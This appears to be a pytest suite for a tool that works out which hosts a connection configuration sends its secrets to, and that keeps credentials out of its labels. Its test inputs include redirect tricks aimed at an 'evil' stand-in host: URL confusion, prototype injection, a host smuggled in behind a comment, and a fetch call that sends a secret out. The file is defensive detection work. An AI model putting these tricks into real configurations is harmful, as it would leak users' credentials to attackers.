"""Where a connection sends its secrets: what counts as another destination, and what is said of it."""

import json

import pytest

from flows.content.fields import Kind
from flows.destinations.destinations import DEVELOPMENT, PRODUCTION, SecretUse, find_secret_uses
from flows.destinations.uses import EVERY

BEFORE = "{ host: 'db.example.com', port: 5432, user: 'app', timeout: 30, password: secrets.DB }"


def uses(dev: str | None, prod: str | None = "", type_: str = "Postgres") -> frozenset[SecretUse]:
    content = {"type": type_, "dev_value": dev, "prod_value": prod}
    return find_secret_uses(Kind.CONNECTION, "a uuid", content)


def destination(dev: str, type_: str = "Postgres"):
    """The one destination of a development value's secrets."""
    (found,) = {use.destination for use in uses(dev, "{}", type_)}
    return found


@pytest.mark.parametrize(
    "new",
    [
        ("'db.example.com'", "'evil.example.com'"),
        ("5432", "'5432'x"),
        ("port: 5432", "port: 5432, proxy: 'evil'"),
        ("port: 5432", "port: 5432, __proto__: { host: 'evil' }"),
        ("'db.example.com'", "`${'evil'}`"),
        ("'db.example.com'", "'good.com@evil.com'"),
        ("'db.example.com'", "'db.example.com' + x"),
        ("'db.example.com'", "env.HOST"),
        ("'db.example.com'", "'db\\x2eexample.com'"),
        ("port: 5432", "...overrides"),
        ("port: 5432", "['ho' + 'st']: 'evil'"),
        ("port: 5432", "port: 5432, host: 'evil'"),
        ("port: 5432", "get host() { return 'evil' }"),
        ("port: 5432", "port: 5432 // \r, host: 'evil'\n"),
        ("port: 5432", "port: 5432 // \u2028, host: 'evil'\n"),
        # Under a key that sounds harmless, what could be an address is none the less one.
        ("timeout: 30", "timeout: 30, retryUrl: 'http://evil'"),
        ("timeout: 30", "timeout: 30, maxHost: 'evil'"),
        ("timeout: 30", "timeout: 30, comment: 'http://evil'"),
        ("timeout: 30", "timeout: 30, poolHost: 2130706433"),
        ("timeout: 30", "timeout: 30, timeoutServer: 0x7f000001"),
    ],
    ids=" to ".join,
)
def test_another_destination(new: tuple[str, str]) -> None:
    after = BEFORE.replace(*new)
    assert after != BEFORE
    assert destination(after) != destination(BEFORE)


@pytest.mark.parametrize(
    ("host", "other"),
    [
        ("'https://good.com'", r"'https://evil.com\\@good.com'"),
        ("'https://good.com'", "'https://evil.com https://good.com'"),
        ("'postgres://good.com/db'", "'postgres://good.com/db?host=evil.com'"),
        ("'good.com'", "'good.com;server=evil.com'"),
        ("'https://good.com'", "'https://good.com:1/u@evil.com'"),
        ("'https://good.com'", "'https://good.com@evil.com'"),
        ("secrets.HOST", "secrets.Host"),
        ("`https://${secrets.HOST}`", "`https://${secrets.Host}`"),
    ],
)
def test_a_text_that_may_lead_elsewhere_is_another_destination(host: str, other: str) -> None:
    def sent(value: str) -> set[object]:
        found = uses(f"{{ url: {value}, key: secrets.DB }}", "{}")
        return {use.destination for use in found if use.secret == "DB"}

    assert not sent(host) & sent(other)


def test_credentials_and_databases_in_a_url_are_no_other_destination() -> None:
    one, other = (
        destination(f"{{ url: `postgres://app:${{secrets.DB}}@{rest}` }}")
        for rest in ("db.example.com:5432/a", "DB.example.com/b?ssl=true")
    )
    assert one == other


@pytest.mark.parametrize(
    ("one", "other"),
    [
        # A text is true, also that of a constant, and no secret's value.
        ("tls: { rejectUnauthorized: 'false' }", "tls: { rejectUnauthorized: false }"),
        ("proxy: 'null'", "proxy: null"),
        ("a: 'secrets.DB'", "a: secrets.DB"),
        ("a: 1", "a: '1'"),
        ("a: ['x>,<y']", "a: ['x', 'y']"),
        ("a: ['x\",\"y']", "a: ['x', 'y']"),
        ("a: '[<x>]'", "a: ['x']"),
        ("a: {}", "a: []"),
        ("a: [1]", "a: [, 1]"),
        ("a: ['', 'x']", "a: [, 'x']"),
        # The later of two spellings of one key counts.
        ("a: { 1: 'x', 0x1: 'y' }", "a: { 0x1: 'y', 1: 'x' }"),
        ("a: { 1: 'x', 1e0: 'y' }", "a: { 1e0: 'y', 1: 'x' }"),
        # No list at all, but a difference.
        ("a: [1 -1]", "a: [1, -1]"),
    ],
)
def test_what_javascript_reads_otherwise_is_another_destination(one: str, other: str) -> None:
    one, other = (f"{{ key: secrets.DB, {text} }}" for text in (one, other))
    assert destination(one) != destination(other)


@pytest.mark.parametrize(
    "after",
    [
        BEFORE.replace("db.example", "DB.Example"),
        BEFORE.replace("port: 5432", "port: 5432, database: 'other', ssl: true"),
        BEFORE.replace("5432", "6432"),
        BEFORE.replace("'app'", "'root'"),
        BEFORE.replace("host:", "hostName:"),
        BEFORE.replace("port: 5432", "port: 5432, ssl: { rejectUnauthorized: false }"),
        BEFORE.replace("timeout: 30", "timeout: 'evil.example.com'"),
        BEFORE.replace("timeout: 30", "timeout: 30, label: `${secrets.DB}`"),
        BEFORE.replace("timeout: 30", "timeout: 30, minioPort: 9000"),
        BEFORE.replace("timeout: 30", "timeout: 30, MINIO_USE_SSL: false"),
        BEFORE.replace("timeout: 30", "timeout: 30, maxRedirects: 20"),
        BEFORE.replace("timeout: 30", "timeout: 30, minVersion: 1"),
        BEFORE.replace("timeout: 30", "timeout: 30, debugProxy: true"),
        BEFORE.replace("30", "60"),
        BEFORE.replace("30", "'60'"),
        BEFORE.replace("timeout: 30", "timeout: 30, numberOfApiCallRetries: 4, pollInterval: 7"),
        BEFORE.replace("timeout: 30", "serverSelectionTimeoutMS: 9, maxpoolsize: 2, MAX_ROWS: 5"),
        BEFORE.replace("timeout: 30, ", ""),
        BEFORE.replace("timeout: 30", "timeout: 30, retries: 3, keepAlive: true, poolSize: 5"),
        BEFORE.replace("timeout: 30", "timeout: 30, comment: 'the usual one', timeZone: 'Europe/Rome'"),
        BEFORE.replace("port: 5432,", "port: 5432, // the usual port\n"),
        BEFORE.replace("'db.example.com'", '"db.example.com"'),
        BEFORE.replace("{ ", "{\n  ").replace(" }", ",\n}"),
        "{ port: 5432, host: 'db.example.com', user: 'app', password: secrets.DB }",
    ],
)  # fmt: skip
def test_the_same_destination(after: str) -> None:
    assert destination(after) == destination(BEFORE)


def test_another_type_is_another_destination() -> None:
    without_host = "{ user: 'app', password: secrets.DB }"
    assert destination(without_host, "Postgres") != destination(without_host, "SqlServer")
    assert destination(BEFORE, "Postgres") == destination(BEFORE, "SqlServer")


def test_production_uses_the_development_value_where_it_has_none() -> None:
    for empty in ("", None, " \n"):
        assert {use.environment for use in uses(BEFORE, empty)} == {DEVELOPMENT, PRODUCTION}
    assert {use.environment for use in uses(BEFORE, "{ host: 'x' }")} == {DEVELOPMENT}
    assert {use.environment for use in uses("{}", BEFORE)} == {PRODUCTION}


@pytest.mark.parametrize(
    "text",
    ["postgres://u:${secrets.DB}@db", "fetch('//evil?' + secrets.DB)", "{ a: x, k: secrets.DB }", "f()", "x['a' + b]", "{ a() {} }", "({ a: this })", "x => x"],
)  # fmt: skip
def test_what_is_no_plain_object_may_send_every_secret_anywhere(text: str) -> None:
    assert {use.secret for use in uses(text)} == {EVERY}
    assert {use.destination.label for use in uses(text)} == {"unknown"}
    assert {use.destination for use in uses(text)} != {use.destination for use in uses(f"{text} ")}


def test_a_template_may_name_secrets() -> None:
    assert {use.secret for use in uses("{ header: `Bearer ${secrets.A} ${ secrets.B }` }")} == {
        "A",
        "B",
    }
    assert {use.secret for use in uses("{ header: `Bearer ${secrets.A + x}` }")} == {EVERY}


@pytest.mark.parametrize(
    ("text", "label"),
    [
        ("{ k: secrets.A, host: 'db.example.com', port: 5432 }", "db.example.com:5432"),
        ("{ k: secrets.A, url: 'https://u:hunter2@a.example.com/path?token=x' }", "https://a.example.com"),
        ("{ k: secrets.A, url: 'https://a.example.com:8443/path?token=x#y' }", "https://a.example.com:8443"),
        ("{ k: secrets.A, host: 'u:hunter2@a' }", "(not shown)"),
        ("{ k: secrets.A, a: { host: 'b' }, host: 'a' }", "a, b"),
        ("{ k: secrets.A }", "Twilio"),
        ("{ k: secrets.A, host: 'a\u202eb' }", "a?b"),
        ("{ k: secrets.A, brokers: ['a:9092', 'b:9092'] }", "a:9092, b:9092"),
        ("{ k: secrets.A, url: [ 'https://a/x', 'https://b/y' ] }", "https://a, https://b"),
        ("{ k: secrets.A, server: 'tcp:db.example.com,1433' }", "tcp:db.example.com,1433"),
        ("{ k: secrets.A, url: `https://${secrets.A}.example.com/hunter2` }", "https://${secrets.A}.example.com"),
        ("{ k: secrets.A, url: 'postgres://admin:hunt#er2@db' }", "(not shown)"),
        ("{ k: secrets.A, url: 'postgres://admin:1234/hunter2@db' }", "(not shown)"),
        ("{ k: secrets.A, url: 'jdbc:sqlserver://db:1433;user=sa;password=hunter2' }", "sqlserver://db:1433"),
        ("{ k: secrets.A, url: 'SharedAccessKey=hunter2;Endpoint=sb://ns.example.com/' }", "sb://ns.example.com"),
        ("{ k: secrets.A, server: 'db.example.com;password=hunter2' }", "db.example.com"),
        ("{ k: secrets.A, server: 'Server=db;Password=hunter2' }", "(not shown)"),
        ("{ k: secrets.A, url: 'db:6379,password=hunter2' }", "(not shown)"),
        ("{ k: secrets.A, host: 'db password=hunter2' }", "db"),
        ("{ k: secrets.A, proxy: 'p.example.com:8080:user:hunter2' }", "(not shown)"),
        ("{ k: secrets.A, proxy: 'user:hunter2' }", "(not shown)"),
        ("{ k: secrets.A, webhookUrl: '/services/hunter2' }", "(not shown)"),
        ("{ k: secrets.A, endpoint: 'hooks.example.com/hunter2' }", "hooks.example.com"),
        ("{ k: secrets.A, serverKey: 'hunter2', host: 'a' }", "(not shown), a"),
        ("{ k: secrets.A, proxyPassword: 'hunter2' }", "(not shown)"),
        ("{ k: secrets.A, host: 'a', port: 'hunter2' }", "a"),
    ],
)  # fmt: skip
def test_a_destination_says_its_hosts_and_no_credential(text: str, label: str) -> None:
    assert {use.destination.label for use in uses(text, type_="Twilio")} == {label}


def test_a_secret_that_an_unknown_key_names_goes_to_an_unknown_destination() -> None:
    content = {"type": "a", "dev_value": BEFORE, "prod_value": "", "extra": '{"x":"secrets.K"}'}

    def sent(**changes: str) -> set[SecretUse]:
        found = find_secret_uses(Kind.CONNECTION, "a uuid", {**content, **changes})
        return {use for use in found if use.secret == "K"}

    assert {use.destination.label for use in sent()} == {"unknown"}
    assert {use.environment for use in sent()} == {DEVELOPMENT, PRODUCTION}
    for change in ({"dev_value": "{ host: 'evil' }"}, {"extra": '{"x":"//evil?secrets.K"}'}):
        assert not sent() & sent(**change)
    assert sent() == sent(description="another")


def test_deep_and_long_texts_are_read_in_bounded_time() -> None:
    deep = "{ a: " * 5000 + "1" + " }" * 5000
    assert uses(deep) == frozenset()
    long = "{ k: secrets.DB, a: '" + "x" * 1_000_000 + "' }"
    assert destination(long) != destination(long.replace("a:", "b:"))
    unfinished = "/*" * 100_000 + "'" * 99_999
    assert uses(unfinished) == frozenset()
    key = "{ " + "timeout" * 100_000 + "x: 1, k: secrets.DB }"
    assert {use.secret for use in uses(key)} == {"DB"}


def test_what_computes_no_name_uses_no_secret() -> None:
    plain = ["{ port: 5000+432 }", "{ host: process.env.HOST }", "'just text'", "https://a/b?c=d"]
    plain += ["{ a: x }", "{ a: [ }", "({})", "/* no secrets here */ {}", "a text", "{} {}"]
    assert {text: uses(text) for text in plain} == dict.fromkeys(plain, frozenset())


def test_a_connection_without_secrets_sends_none() -> None:
    assert uses("{ host: 'a' }") == uses("", None) == uses(None, "  ") == frozenset()


def test_everyday_changes_of_real_connections_lead_nowhere_else(shared_data) -> None:
    texts = {
        item["devValue"]
        for name in ("small", "medium", "odd")
        for item in json.loads((shared_data / f"real-{name}.json").read_text())["connections"]
        if (item.get("devValue") or "").strip()
    }
    assert texts
    for text in texts:
        same = uses(text)
        assert uses(f"{text.rstrip()}\n") == same
        assert uses(text.replace("{", "{ // as agreed\n", 1)) == same
        if text.rstrip()[-2:] != "{}":
            assert uses(text.replace("{", "{ requestTimeoutMs: 5000, maxRetries: 3,", 1)) == same
            assert uses(text.replace("{", "{ keepAlive: true, description: 'ours',", 1)) == same
